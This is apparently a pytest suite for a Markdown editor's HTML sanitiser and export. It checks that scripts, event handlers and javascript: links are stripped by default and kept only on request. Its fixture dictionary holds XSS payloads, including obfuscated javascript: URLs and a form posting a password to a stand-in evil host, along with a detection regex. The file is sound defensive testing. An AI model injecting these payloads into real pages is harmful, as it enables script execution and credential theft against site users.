"""Raw HTML in a draft never runs: stripped by default (nh3), passed through only when asked."""

from __future__ import annotations

import re
import subprocess
import sys

import pytest

from editor.cli import main
from editor.export import ExportOptions, render_page
from editor.model import Article, RelatedCard
from editor.render import BodyRenderer, RawHtml, render_markdown

HOSTILE = {
    "script": "<script>alert('script')</script>",
    "script_src": '<script src="https://evil.example/x.js"></script>',
    "onerror": '<img src="x.png" onerror="alert(\'onerror\')">',
    "onload": "<svg onload=\"alert('svg')\"></svg>",
    "onclick": '<p onclick="alert(\'click\')">click me</p>',
    "javascript_markdown_link": "[markdown link](javascript:alert('md'))",
    "javascript_href": '<a href="javascript:alert(\'href\')">html link</a>',
    "javascript_mixed_case": '<a href="JaVaScRiPt:alert(\'case\')">case</a>',
    "javascript_entity": '<a href="java&#x09;script:alert(\'tab\')">tab</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">vb</a>',
    "iframe": '<iframe src="https://evil.example/frame"></iframe>',
    "iframe_srcdoc": "<iframe srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>",
    "object": '<object data="evil.swf"></object>',
    "embed": '<embed src="evil.swf">',
    "form": '<form action="https://evil.example/steal"><input name="password"></form>',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base": '<base href="https://evil.example/">',
    "style_url": "<p style=\"background:url(javascript:alert('css'))\">styled</p>",
    "style_tag": "<style>body { display: none }</style>",
}
# What must be gone from the sanitised HTML for each case.
FORBIDDEN = re.compile(
    r"<script|<iframe|<object|<embed|<form|<meta|<base|<style|\bon[a-z]+\s*=|"
    r"javascript:|vbscript:|srcdoc",
    re.IGNORECASE,
)


def body_with(snippet: str) -> str:
    return f"A paragraph before.\n\n{snippet}\n\nA paragraph after.\n"


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_render_strips_what_could_run_by_default(name: str) -> None:
    html = BodyRenderer().render(body_with(HOSTILE[name])).html
    assert FORBIDDEN.search(html) is None, html
    assert "A paragraph before." in html and "A paragraph after." in html


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_export_strips_what_could_run_by_default(name: str) -> None:
    article = Article(title="Hostile", body=body_with(HOSTILE[name]))
    page = render_page(article)
    # The page's head has its own meta, style and JSON-LD script; the article is the draft's.
    shown = page[page.index("<article"):page.index("</article>")]
    assert FORBIDDEN.search(shown) is None
    assert page.count("<script") == 1  # the JSON-LD data block only
    fragment = render_page(article, ExportOptions(fragment=True))
    assert FORBIDDEN.search(fragment) is None


def test_sanitize_keeps_harmless_markup() -> None:
    html = render_markdown(body_with(
        '<figure><img src="a.png" alt="A"><figcaption>Cap</figcaption></figure>\n\n'
        '<a href="https://example.com/x">safe</a> <abbr title="t">T</abbr> <mark>m</mark>'
    ))
    for kept in ("<figure>", 'src="a.png"', "<figcaption>", 'href="https://example.com/x"',
                 "<abbr", "<mark>"):
        assert kept in html


@pytest.mark.parametrize(("name", "kept"), [
    ("script", "<script>alert('script')</script>"),
    ("onerror", "onerror="),
    ("javascript_href", 'href="javascript:'),
    ("javascript_markdown_link", 'href="javascript:'),
    ("iframe", '<iframe src="https://evil.example/frame">'),
])
def test_keep_passes_raw_html_through(name: str, kept: str) -> None:
    html = BodyRenderer(RawHtml.KEEP).render(body_with(HOSTILE[name])).html
    assert kept in html
    page = render_page(Article(body=body_with(HOSTILE[name])),
                       ExportOptions(raw_html=RawHtml.KEEP))
    assert kept in page


def test_export_options_say_raw_html_is_sanitised_by_default() -> None:
    assert ExportOptions().raw_html is RawHtml.SANITIZE


def test_front_matter_urls_cannot_run_code() -> None:
    article = Article(
        title="<script>alert('title')</script>",
        author='"><img src=x onerror=alert(1)>',
        image="javascript:alert('featured')",
        related=[
            RelatedCard(title="Bad card", url="javascript:alert('card')",
                        image="JAVASCRIPT:alert('card image')"),
            RelatedCard(title="Good card", url="https://example.com/story",
                        image="data:image/png;base64,iVBORw0KGgo="),
        ],
        body="Text.\n",
    )
    page = render_page(article)
    assert "javascript:" not in page.lower()
    assert "<script>alert" not in page
    assert "<img src=x" not in page
    assert 'href="https://example.com/story"' in page
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in page


def test_cli_export_documents_and_applies_raw_html(tmp_path, capsys) -> None:
    source = tmp_path / "draft.md"
    source.write_text("---\ntitle: Draft\n---\n" + body_with(HOSTILE["script"]), "utf-8")
    assert main(["export", str(source), "-o", str(tmp_path / "safe.html")]) == 0
    assert "alert('script')" not in (tmp_path / "safe.html").read_text("utf-8")
    assert main(["export", str(source), "-o", str(tmp_path / "raw.html"),
                 "--raw-html", "keep"]) == 0
    assert "<script>alert('script')</script>" in (tmp_path / "raw.html").read_text("utf-8")


def test_cli_help_documents_the_raw_html_option() -> None:
    result = subprocess.run(
        [sys.executable, "-m", "editor", "export", "--help"],
        capture_output=True, text=True, timeout=60, check=True,
    )
    help_text = " ".join(result.stdout.split())
    assert "--raw-html {sanitize,keep}" in help_text
    assert "'sanitize' (default)" in help_text
    assert "strips scripts" in help_text
